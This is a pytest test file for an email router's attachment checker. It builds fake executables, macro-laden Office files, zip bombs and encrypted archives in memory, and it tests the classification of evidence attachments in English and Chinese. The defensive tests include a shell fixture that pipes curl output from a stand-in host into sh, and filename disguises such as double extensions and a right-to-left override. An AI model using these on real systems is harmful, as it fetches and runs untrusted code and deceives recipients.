"""Evidence and dangerous attachments (SPEC 4); every payload is built here in memory."""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile

import pytest

from router.config import Limits
from router.records import Attachment, EvidenceReport, Rejection
from router.understand.evidence import DANGEROUS, TOO_LARGE, assess, is_dangerous, sniff

LIMITS = Limits(
    max_message_bytes=26214400,
    max_attachment_bytes=1 << 20,
    max_parts=500,
    max_depth=20,
    max_archive_members=20,
    max_archive_uncompressed_bytes=10 << 20,
    max_archive_ratio=100,
    max_text_chars=200000,
)

# --- payload builders -----------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 40  # ~10 KiB, over the tiny-image floor
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + bytes(range(256)) * 40
GIF = b"GIF89a" + bytes(range(256)) * 40
WEBP = b"RIFF\x00\x10\x00\x00WEBPVP8 " + bytes(range(256)) * 40
BMP = b"BM" + (10000).to_bytes(4, "little") + b"\x00" * 8 + (40).to_bytes(4, "little") + b"\x01" * 9000
TIFF = b"II*\x00\x08\x00\x00\x00" + b"\x01" * 9000
HEIC = (24).to_bytes(4, "big") + b"ftypheic\x00\x00\x00\x00mif1heic" + b"\x01" * 9000
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + b"0" * 8000
CSV = "time,ip,device\n2024-05-01 10:00,203.0.113.5,iPhone\n".encode()
TEXT = "2024-05-01 10:00:00 ERROR withdrawal failed 提现失败\n".encode()
PE = b"MZ" + b"\x90\x00" * 29 + (0x80).to_bytes(4, "little") + b"\x00" * (0x80 - 0x40) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 200
SCRIPT = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
RAR = b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100
SEVENZ = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 100


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def ooxml(main: str, extra: dict[str, bytes] | None = None, content_type: str = "") -> bytes:
    parts = {
        "[Content_Types].xml": f'<Types><Override ContentType="{content_type}"/></Types>'.encode(),
        "_rels/.rels": b"<Relationships/>",
        main: b"<root/>",
    }
    return zip_of(parts | (extra or {}))


def ole_dir_entry(name: str, kind: int) -> bytes:
    encoded = (name + "\x00").encode("utf-16-le")
    return encoded.ljust(64, b"\x00") + len(encoded).to_bytes(2, "little") + bytes([kind]) + b"\x00" * 61


def ole(*storages: str) -> bytes:
    """A minimal compound file: header sector, then one directory sector."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 22 + (9).to_bytes(2, "little")
    header = header.ljust(512, b"\x00")
    entries = ole_dir_entry("Root Entry", 5) + b"".join(ole_dir_entry(s, 1) for s in storages)
    entries += ole_dir_entry("WordDocument", 2)
    return header + entries.ljust(512, b"\x00") + b"\x00" * 512


def encrypted(zip_bytes: bytes) -> bytes:
    """Set the 'encrypted' flag in the local and central headers (zipfile cannot write encryption)."""
    data = bytearray(zip_bytes)
    for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = data.find(sig)
        while pos >= 0:
            data[pos + offset] |= 1
            pos = data.find(sig, pos + 4)
    return bytes(data)


def tar_gz(members: dict[str, bytes]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), mtime=0)


def att(name: str, payload: bytes, **kw: object) -> Attachment:
    return Attachment(filename=name, content_type="application/octet-stream", payload=payload, **kw)  # type: ignore[arg-type]


def one(name: str, payload: bytes, body: str = "") -> EvidenceReport:
    return assess([att(name, payload)], body, LIMITS)


def assert_dangerous(report: EvidenceReport, *words: str) -> None:
    assert is_dangerous(report), report
    assert len(report.rejected) == 1
    reason = report.rejected[0].reason
    assert reason.startswith(DANGEROUS)
    for word in words:
        assert word in reason, reason
    assert report.present == ()


# --- sniff ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("payload", "label"),
    [
        (PDF, "pdf"),
        (PNG, "png"),
        (JPEG, "jpeg"),
        (GIF, "gif"),
        (WEBP, "webp"),
        (BMP, "bmp"),
        (TIFF, "tiff"),
        (HEIC, "heic"),
        (zip_of({"a.txt": b"hello"}), "zip"),
        (ooxml("xl/workbook.xml"), "xlsx"),
        (ooxml("word/document.xml"), "docx"),
        (ooxml("ppt/presentation.xml"), "pptx"),
        (ooxml("xl/workbook.xml", {"xl/vbaProject.bin": ole("VBA")}), "xlsm"),
        (ooxml("word/document.xml", {"word/vbaProject.bin": ole("VBA")}), "docm"),
        (ooxml("ppt/presentation.xml", {"ppt/vbaProject.bin": ole("VBA")}), "pptm"),
        (ooxml("word/document.xml", content_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "docm"),
        (ole(), "ole"),
        (ole("Macros", "VBA"), "ole_macro"),
        (ole("_VBA_PROJECT_CUR"), "ole_macro"),
        (RAR, "rar"),
        (SEVENZ, "7z"),
        (gzip.compress(b"hello", mtime=0), "gzip"),
        (gzip.decompress(tar_gz({"a.txt": b"x"})), "tar"),
        (PE, "pe"),
        (ELF, "elf"),
        (MACHO, "macho"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 64, "macho"),
        (SCRIPT, "script"),
        (CSV, "text"),
        ("身份证正反面\n".encode("gb18030"), "text"),
        (b"", "unknown"),
        (bytes(range(32)) * 4, "unknown"),
    ],
)
def test_sniff(payload: bytes, label: str) -> None:
    assert sniff(payload) == label


def test_sniff_ole_text_mentioning_vba_is_not_a_macro() -> None:
    """'VBA' inside document text is not a directory entry."""
    doc = ole() + ("see the VBA guide" * 10).encode("utf-16-le")
    assert sniff(doc) == "ole"


def test_sniff_mz_prose_is_text() -> None:
    assert sniff(b"MZ transfer confirmation, thank you\n" * 3) == "text"


# --- dangerous by bytes ---------------------------------------------------


@pytest.mark.parametrize(
    ("name", "payload", "word"),
    [
        ("setup.bin", PE, "Windows executable"),
        ("tool", ELF, "Linux executable"),
        ("app", MACHO, "macOS executable"),
        ("run", SCRIPT, "script"),
    ],
)
def test_executables_by_bytes(name: str, payload: bytes, word: str) -> None:
    assert_dangerous(one(name, payload), word)


@pytest.mark.parametrize(
    ("name", "payload"),
    [("statement.pdf", PE), ("passport.jpg", ELF), ("id.png", SCRIPT), ("流水.xlsx", MACHO)],
)
def test_harmless_name_over_executable_bytes(name: str, payload: bytes) -> None:
    ext = name.rsplit(".", 1)[1]
    assert_dangerous(one(name, payload, "attached my passport"), f"disguised as .{ext}")


@pytest.mark.parametrize("ext", "exe scr bat cmd com pif js jse vbs vbe wsf ps1 jar msi lnk hta".split())
def test_dangerous_extensions_by_name(ext: str) -> None:
    assert_dangerous(one(f"readme.{ext}", b"harmless looking text\n"), f".{ext}")


def test_dangerous_extension_case_and_trailing_dots() -> None:
    assert_dangerous(one("Invoice.EXE. ", b"text\n"), ".exe")


def test_double_extension() -> None:
    assert_dangerous(one("invoice.pdf.exe", PDF), "double extension .pdf.exe")


def test_direction_override_in_name() -> None:
    assert_dangerous(one("invoice\u202egpj.exe", JPEG), "hides")


def test_docm_and_xlsm_by_name() -> None:
    doc = ooxml("word/document.xml")
    assert_dangerous(one("contract.docm", doc), "macro-enabled", ".docm")
    assert_dangerous(one("流水.xlsm", ooxml("xl/workbook.xml")), "macro-enabled", ".xlsm")


def test_docm_and_xlsm_by_content() -> None:
    docm = ooxml("word/document.xml", {"word/vbaProject.bin": ole("VBA", "_VBA_PROJECT")})
    xlsm = ooxml("xl/workbook.xml", {"xl/vbaProject.bin": ole("VBA")})
    assert_dangerous(one("contract.docx", docm), "macro-enabled")
    assert_dangerous(one("bank_statement.xlsx", xlsm), "macro-enabled")
    assert_dangerous(one("statement.pdf", xlsm), "macro-enabled")


def test_xlsx_with_excel4_macro_sheet() -> None:
    xlm = ooxml("xl/workbook.xml", {"xl/macrosheets/sheet1.xml": b"<xm/>"})
    assert_dangerous(one("流水.xlsx", xlm), "macro-enabled")


def test_ole_with_macros() -> None:
    assert_dangerous(one("salary.doc", ole("Macros", "VBA")), "macro-enabled")
    assert_dangerous(one("report.xls", ole("_VBA_PROJECT_CUR", "VBA")), "macro-enabled")


def test_ole_without_macros_is_not_dangerous_nor_evidence() -> None:
    report = one("contract.doc", ole())
    assert report == EvidenceReport(present=(), rejected=(), reasons=report.reasons)
    assert not is_dangerous(report)


# --- archives -------------------------------------------------------------


def test_zip_containing_exe() -> None:
    assert_dangerous(one("documents.zip", zip_of({"passport.jpg": JPEG, "setup.exe": PE})), "setup.exe")


def test_zip_member_with_harmless_name_but_pe_bytes() -> None:
    assert_dangerous(one("docs.zip", zip_of({"readme.txt": PE})), "Windows executable", "readme.txt")


def test_zip_containing_macro_document() -> None:
    docm = ooxml("word/document.xml", {"word/vbaProject.bin": ole("VBA")})
    assert_dangerous(one("docs.zip", zip_of({"contract.docx": docm})), "macro-enabled")


def test_encrypted_zip() -> None:
    assert_dangerous(one("statements.zip", encrypted(zip_of({"a.pdf": PDF}))), "encrypted")


def test_zip_bomb_by_ratio() -> None:
    bomb = zip_of({"zeros.txt": b"\x00" * (4 << 20)})
    assert len(bomb) < 10_000
    assert_dangerous(one("bomb.zip", bomb), "zip bomb", "limit 100:1")


def test_small_highly_compressible_zip_is_fine() -> None:
    """Ratio is only judged above 1 MiB: a short repetitive CSV is not a bomb."""
    report = one("records.zip", zip_of({"records.csv": b"0,0,0\n" * 20000}))
    assert report.rejected == ()


def test_zip_over_unpacked_size() -> None:
    big = zip_of({f"p{i}.bin": bytes(range(256)) * 4096 * 3 for i in range(4)}, zipfile.ZIP_STORED)  # 4 x 3 MiB
    small = Limits(**{**LIMITS.__dict__, "max_attachment_bytes": 1 << 25})
    report = assess([att("big.zip", big)], "", small)
    assert is_dangerous(report)
    assert "too large when unpacked" in report.rejected[0].reason


def test_zip_with_too_many_members() -> None:
    many = zip_of({f"f{i}.txt": b"x" for i in range(LIMITS.max_archive_members + 5)})
    assert_dangerous(one("many.zip", many), "too many members", "over 20")


def test_nested_zip_with_exe() -> None:
    inner = zip_of({"tool.exe": PE})
    assert_dangerous(one("outer.zip", zip_of({"inner.zip": inner})), "inner.zip/tool.exe")


def test_nesting_depth() -> None:
    level3 = zip_of({"l3.zip": zip_of({"ok.txt": b"fine"})})
    ok = zip_of({"l2.zip": level3})
    assert not is_dangerous(one("l1.zip", ok))
    too_deep = zip_of({"l1.zip": ok})
    assert_dangerous(one("l0.zip", too_deep), "nested deeper than 3")


def test_corrupt_zip() -> None:
    assert_dangerous(one("statement.zip", b"PK\x03\x04" + b"\x00" * 60), "cannot be opened")


@pytest.mark.parametrize(("name", "payload"), [("records.rar", RAR), ("records.7z", SEVENZ), ("x.pdf", RAR)])
def test_rar_and_7z_cannot_be_inspected(name: str, payload: bytes) -> None:
    assert_dangerous(one(name, payload), "archive cannot be inspected")


def test_tar_gz_with_script() -> None:
    assert_dangerous(one("logs.tar.gz", tar_gz({"logs/error.log": TEXT, "logs/fix": SCRIPT})), "script", "logs/fix")


def test_tar_gz_harmless() -> None:
    report = one("logs.tgz", tar_gz({"logs/error.log": TEXT}))
    assert report.rejected == ()


def test_gzip_bomb() -> None:
    assert_dangerous(one("log.gz", gzip.compress(b"\x00" * (4 << 20), mtime=0)), "zip bomb")


def test_harmless_zip_is_not_rejected() -> None:
    report = one("records.zip", zip_of({"records.csv": CSV, "passport.jpg": JPEG}))
    assert report.rejected == ()
    assert not is_dangerous(report)


# --- size -----------------------------------------------------------------


def test_oversize_attachment_rejected_but_not_dangerous() -> None:
    big = b"%PDF-1.7\n" + b"0" * (LIMITS.max_attachment_bytes + 1)
    report = one("passport.pdf", big)
    assert report.present == ()
    assert len(report.rejected) == 1
    assert report.rejected[0].filename == "passport.pdf"
    assert report.rejected[0].reason.startswith(TOO_LARGE)
    assert "1.0 MiB per-attachment limit" in report.rejected[0].reason
    assert not is_dangerous(report)


def test_danger_wins_over_size() -> None:
    big = PE + b"\x00" * (LIMITS.max_attachment_bytes + 1)
    assert_dangerous(one("big.exe", big))


def test_is_dangerous_reads_the_prefix() -> None:
    assert is_dangerous(EvidenceReport((), (Rejection("a", "too large: x"), Rejection("b", "dangerous: y"))))
    assert not is_dangerous(EvidenceReport((), (Rejection("a", "too large: x"),)))
    assert not is_dangerous(EvidenceReport((), ()))


# --- evidence from names --------------------------------------------------


@pytest.mark.parametrize(
    ("name", "payload", "kind"),
    [
        ("passport.jpg", JPEG, "identity"),
        ("身份证正面.png", PNG, "identity"),
        ("護照.pdf", PDF, "identity"),
        ("手持照片.jpg", JPEG, "identity"),
        ("selfie_with_id.heic", HEIC, "identity"),
        ("Driving-Licence.pdf", PDF, "identity"),
        ("流水.xlsx", ooxml("xl/workbook.xml"), "transactions"),
        ("对账单.pdf", PDF, "transactions"),
        ("交易记录.png", PNG, "transactions"),
        ("txid screenshot.png", PNG, "transactions"),
        ("bank_statement.pdf", PDF, "transactions"),
        ("login_history.csv", CSV, "activity_log"),
        ("登录记录.png", PNG, "activity_log"),
        ("登入紀錄.pdf", PDF, "activity_log"),
        ("error.log", TEXT, "activity_log"),
        ("app.log", TEXT, "activity_log"),
        ("工资单.pdf", PDF, "source_of_funds"),
        ("工资流水.xlsx", ooxml("xl/workbook.xml"), "source_of_funds"),
        ("salary_statement.pdf", PDF, "source_of_funds"),
        ("合同.jpg", JPEG, "source_of_funds"),
        ("完税证明.pdf", PDF, "source_of_funds"),
    ],
)
def test_kind_from_file_name(name: str, payload: bytes, kind: str) -> None:
    report = one(name, payload)
    assert report.present == (kind,), report
    assert report.rejected == ()
    assert any(name in r and "file name" in r for r in report.reasons)


def test_bank_statement_is_source_of_funds_when_the_mail_talks_about_it() -> None:
    body = "Please find the bank statement attached as proof of the source of funds."
    report = one("bank_statement.pdf", PDF, body)
    assert report.present == ("source_of_funds",)
    assert any("source of funds" in r for r in report.reasons)
    zh = one("银行流水.pdf", PDF, "按要求提供资金来源证明。")
    assert zh.present == ("source_of_funds",)


def test_harmless_mismatch_is_fine() -> None:
    report = one("passport.jpg", PNG)
    assert report.present == ("identity",)
    assert report.rejected == ()


def test_kind_needs_an_acceptable_type() -> None:
    assert one("passport.csv", CSV).present == ()  # identity is image or PDF
    assert one("passport.docx", ooxml("word/document.xml")).present == ()
    assert one("statement.pdf", b"just some text pretending\n").present == ()  # text with a .pdf name


def test_present_is_in_canonical_order() -> None:
    report = assess(
        [
            att("合同.pdf", PDF),
            att("login_history.csv", CSV),
            att("passport.jpg", JPEG),
            att("流水.xlsx", ooxml("xl/workbook.xml")),
        ],
        "",
        LIMITS,
    )
    assert report.present == ("identity", "transactions", "activity_log", "source_of_funds")


# --- evidence from the body -----------------------------------------------


def test_english_body_mention_explains_unnamed_image() -> None:
    report = one("IMG_2031.jpg", JPEG, "Hello, I attached my passport and a selfie. Thanks")
    assert report.present == ("identity",)
    assert any("body" in r and "IMG_2031.jpg" in r for r in report.reasons)


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        ("附件是身份证正反面和手持照片", "identity"),
        ("附件是身份證正反面和手持照片。", "identity"),
        ("截图是充值记录，请帮忙查一下", "transactions"),
        ("please find the bank statement attached", "transactions"),
        ("Attached is a screenshot of my login history.", "activity_log"),
        ("附上工资单照片", "source_of_funds"),
    ],
)
def test_body_mentions(body: str, kind: str) -> None:
    assert one("IMG_2031.jpg", JPEG, body).present == (kind,)


def test_body_mention_without_attachment_is_not_counted() -> None:
    assert assess([], "I will send my ID later, attached passport soon", LIMITS).present == ()
    assert assess([], "附件是身份证正反面", LIMITS).present == ()


def test_body_mention_only_for_unexplained_attachments() -> None:
    """Names already explain login_history.csv; the body's 'passport' has nothing left to describe."""
    report = one("login_history.csv", CSV, "attached my passport")
    assert report.present == ("activity_log",)


def test_body_mention_needs_a_compatible_type() -> None:
    assert one("data.csv", CSV, "attached my passport").present == ()  # identity is not CSV
    assert one("data.csv", CSV, "attached my login history").present == ("activity_log",)


def test_negated_body_mentions_are_ignored() -> None:
    assert one("IMG_1.jpg", JPEG, "I don't have my passport, attached a screenshot of the app").present == ()
    assert one("IMG_1.jpg", JPEG, "没有护照，附件是截图").present == ()
    assert one("IMG_1.jpg", JPEG, "没有护照，附件是驾照照片").present == ("identity",)


def test_body_mention_needs_an_attachment_cue() -> None:
    assert one("IMG_1.jpg", JPEG, "My passport expires next year.").present == ()


def test_smart_contract_is_not_a_contract() -> None:
    assert one("IMG_1.jpg", JPEG, "screenshot attached: I sent USDT to the smart contract").present == ()


# --- decorations ----------------------------------------------------------


def test_inline_content_id_image_is_ignored() -> None:
    sig = att("image001.png", PNG, inline=True, content_id="<image001.png@01D9>")
    report = assess([sig], "Attached my passport. Regards", LIMITS)
    assert report.present == ()
    assert report.rejected == ()
    assert any("not evidence" in r for r in report.reasons)


@pytest.mark.parametrize(("name", "payload"), [("image001.png", PNG), ("Outlook-logo.jpg", JPEG), ("IMG_9.png", PNG[:2000])])
def test_signature_names_and_tiny_images_are_ignored(name: str, payload: bytes) -> None:
    assert one(name, payload, "attached my passport").present == ()


def test_inline_image_still_checked_for_danger() -> None:
    report = assess([att("image001.png", PE, inline=True, content_id="<x>")], "", LIMITS)
    assert is_dangerous(report)


def test_mixed_message() -> None:
    report = assess(
        [att("passport.jpg", JPEG), att("tool.exe", PE), att("huge.pdf", b"%PDF-1.7\n" + b"0" * (2 << 20))],
        "",
        LIMITS,
    )
    assert report.present == ("identity",)
    assert [r.filename for r in report.rejected] == ["tool.exe", "huge.pdf"]
    assert is_dangerous(report)
